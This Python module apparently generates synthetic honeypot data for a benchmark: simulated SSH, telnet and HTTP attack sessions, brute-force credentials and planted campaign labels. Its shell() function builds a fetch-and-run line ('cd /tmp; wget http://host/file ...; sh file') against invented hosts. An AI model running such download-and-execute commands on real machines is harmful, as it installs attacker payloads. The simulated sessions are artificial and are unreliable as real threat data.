"""A honeypot's week: ordinary sources with public tools, as the frame that analysis reads, and who belongs to what."""

from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from random import Random
from typing import Any, Final
from uuid import UUID

import polars as pl

from bench import vocabulary
from bench.coordination import habits
from bench.coordination.habits import Tool
from bench.sampling import digest_text
from clew.analysis.coordination import SCHEMA

START: Final = datetime(2025, 3, 3, tzinfo=UTC)
DAY: Final = 86_400.0
SENSORS: Final = ("north", "south", "east")
CROWD: Final = 40
"""Places in crowded networks that are kept free, so that who comes next is not in the same network as who came last."""
_LISTS: Final = (
    "fingerprints",
    "credentials",
    "commands",
    "downloads",
    "urls",
    "keys",
    "http_paths",
    "payloads",
    "feeds",
)


@dataclass
class Network:
    """Where a source is."""

    address: str
    asn: int
    country: str


@dataclass
class World:
    """Sessions in the making. `truth` maps a source address to its planted campaign."""

    seed: str
    days: float
    truth: dict[str, str] = field(default_factory=dict)
    kinds: dict[str, str] = field(default_factory=dict)
    """Campaign → kind."""
    columns: dict[str, list[Any]] = field(default_factory=lambda: {name: [] for name in SCHEMA})

    def __post_init__(self) -> None:
        self.random = Random(f"coordination/{self.seed}")
        self.clients = vocabulary.clients(Random(f"{self.seed}/clients"))
        self.pairs = vocabulary.credentials(Random(f"{self.seed}/pairs"), 4_000)
        self.tools = habits.tools(Random(f"{self.seed}/tools"), self.clients, self.pairs)
        self._popular = [(rank + 1) ** -habits.TOOL_EXPONENT for rank in range(len(self.tools))]
        self._taken: set[str] = set()
        self._crowded: list[str] = []

    def network(self, prefix: str | None = None) -> Network:
        """A new address, in a network of its own, in one that others are in too, or in the given /24."""
        random = self.random
        if prefix is None and len(self._crowded) > CROWD and random.random() < 0.5:
            prefix = self._crowded.pop(random.randrange(len(self._crowded)))
        elif prefix is None:
            first = random.choice((5, 23, 45, 61, 103, 141, 185, 196, 218))
            prefix = f"{first}.{random.randrange(256)}.{random.randrange(256)}"
            draw, total = random.random(), 0.0
            for size, share in habits.PREFIX_SIZES:
                total += share
                if draw < total:
                    self._crowded += [prefix] * (size - 1)
                    break
        while (address := f"{prefix}.{random.randint(1, 254)}") in self._taken:
            if sum(taken.startswith(f"{prefix}.") for taken in self._taken) > 250:
                return self.network()
        self._taken.add(address)
        place = Random(f"{self.seed}/{prefix.rpartition('.')[0]}")
        return Network(address, 1000 + int(300 ** place.random()), f"C{int(60 ** place.random()):02}")

    def tool(self) -> Tool:
        """One of the public tools, popular ones more often."""
        return self.random.choices(self.tools, self._popular)[0]

    def session(self, network: Network, moment: float, **shown: Any) -> None:
        """One session at a moment (seconds from the start); lists not given are empty."""
        start = START + timedelta(seconds=moment)
        row: dict[str, Any] = {
            "session_id": str(UUID(int=self.random.getrandbits(128), version=4)), "source_ip": network.address,
            "started_at": start, "ended_at": start + timedelta(seconds=self.random.expovariate(1 / 20)),
            "sensor": self.random.choice(SENSORS), "protocol": "ssh", "target_port": 22, "attack_type": "brute_force",
            "asn": network.asn, "country": network.country, "succeeded": False,
        } | shown  # fmt: skip
        for name, column in self.columns.items():
            column.append(row.get(name, [] if name in _LISTS else None))

    def frame(self) -> pl.DataFrame:
        """All sessions, in the order in which they were made."""
        return pl.DataFrame(self.columns, schema=SCHEMA)


def client_fields(client: vocabulary.Client) -> dict[str, Any]:
    """What a session shows of its client."""
    return {"client": client.version, "fingerprints": [f"hassh:{client.hassh}"]}


def joined(pair: tuple[str, str]) -> str:
    """A credential as analysis reads it."""
    return f"{pair[0]}\0{pair[1]}"


def populate(world: World, sessions: int) -> None:
    """Ordinary sources until there are about that many sessions."""
    random = world.random
    for _ in range(max(int(sessions / habits.MEAN_SESSIONS), 1)):
        count = round(habits.quantile(habits.SESSION_QUANTILES, random.random()))
        span = min(habits.quantile(habits.SPAN_QUANTILES, random.random()) * 3600, world.days * DAY * 0.95)
        live(world, world.network(), world.tool(), count, span)


def live(world: World, network: Network, tool: Tool, count: int, span: float, begin: float | None = None) -> None:
    """An ordinary source's sessions: one tool, one client of it, a host of its own for what it fetches."""
    random = world.random
    client = random.choice(tool.clients)
    host = own_host(world, network.address)
    if random.random() < 0.15:
        host = f"{random.choice(habits.PUBLIC_HOSTS)}/{random.getrandbits(40):010x}"
    begin = random.uniform(0, world.days * DAY - span) if begin is None else begin
    pace = (
        random.choice((600, 1800, 3600, 3600, 21_600, random.uniform(300, 20_000))) if random.random() < 0.05 else 0.0
    )
    count = max(min(count, 1 + int((world.days * DAY - begin) / pace)), 1) if pace else count
    at = 0  # a list is tried from its top, and those who stay long get further
    for number in range(count):
        moment = (
            begin + number * pace * random.gauss(1, 0.003)
            if pace
            else begin + span * (random.random() if count < 8 else (number + random.random()) / count)
        )
        world.session(network, moment, **ordinary(world, tool, client, host, at))
        at = (at + 6) % max(len(tool.pairs), 1)


def own_host(world: World, name: str) -> str:
    """A payload host nobody else uses."""
    place = Random(f"{world.seed}/host/{name}")
    return f"{place.randint(11, 220)}.{place.randrange(256)}.{place.randrange(256)}.{place.randint(1, 254)}"


def ordinary(world: World, tool: Tool, client: vocabulary.Client, host: str, at: int) -> dict[str, Any]:
    """What one session of a public tool shows."""
    random = world.random
    if tool.protocol == "http":
        paths = random.sample(tool.paths, random.randint(1, len(tool.paths)))
        agent = {"client": f"Mozilla/5.0 ({tool.name})" if random.random() < 0.5 else "curl/7.88.1"}
        return {"protocol": "http", "target_port": 80, "http_paths": paths, "attack_type": "scan", **agent}
    if tool.protocol == "tcp":
        return {"protocol": "tcp", "target_port": random.choice((445, 1433, 5900, 8728)), "payloads": [tool.payload]}
    shown = client_fields(client) if tool.protocol == "ssh" else {"protocol": "telnet", "target_port": 23}
    if random.random() < 0.2:
        return shown | {"attack_type": "scan"}
    tried = tool.pairs[at : at + random.randint(1, 12)] or tool.pairs[:3]
    tried = [pair if random.random() < 0.75 else world.pairs[int(4_000 ** random.random()) - 1] for pair in tried]
    shown |= {"credentials": [joined(pair) for pair in tried]}
    if random.random() < tool.gets_in:
        shown |= {"succeeded": True, "attack_type": "intrusion", **shell(world, tool, host)}
    return shown


def shell(world: World, tool: Tool, host: str) -> dict[str, Any]:
    """What a public tool does once it is in: its script, now and then something else, and its file."""
    random = world.random
    commands = [step for step in tool.script if random.random() < 0.9]
    if random.random() < 0.3:
        commands.insert(random.randint(0, len(commands)), random.choice(vocabulary.ACTIONS))
    if random.random() < 0.15:
        commands.append(habits.odd_command(random))
    if not tool.shasums or random.random() < 0.4:
        return {"commands": commands}
    url = f"http://{host}/{tool.filename}"
    commands.append(f"cd /tmp; wget {url} -O .{random.getrandbits(32):08x}; sh {tool.filename}")
    # Of the tools that fewer use, every copy is built anew.
    public = tool not in world.tools[8:]
    return {"commands": commands, "urls": [url], "downloads": [tool.shasums[0] if public else fresh_digest(world)]}


def fresh_digest(world: World) -> str:
    """SHA-256 of a file nobody has seen."""
    return digest_text(world.seed, world.random.random())
